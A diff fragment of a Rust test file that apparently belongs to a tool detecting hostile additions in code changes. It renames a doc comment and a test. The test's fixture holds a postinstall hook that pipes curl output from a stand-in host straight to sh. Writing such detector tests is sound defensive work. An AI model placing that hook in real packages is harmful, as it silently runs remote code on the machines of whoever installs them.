@@ -1,4 +1,4 @@
-//! What is seen in added lines, and what is not.
+//! What is found in added lines, and what is not.
 
 use super::*;
 
@@ -216,7 +216,7 @@ fn encoded_text_that_is_fetched_and_evaluated() {
 }
 
 #[test]
-fn what_was_moved_or_indented_is_no_addition() {
+fn moved_and_indented_lines_are_not_added() {
     let line = r#""postinstall": "curl -s https://load.example/x | sh""#;
     let file = |path: &str, added: &[&str], removed: &[&str]| FileChange {
         path: path.as_bytes().into(),
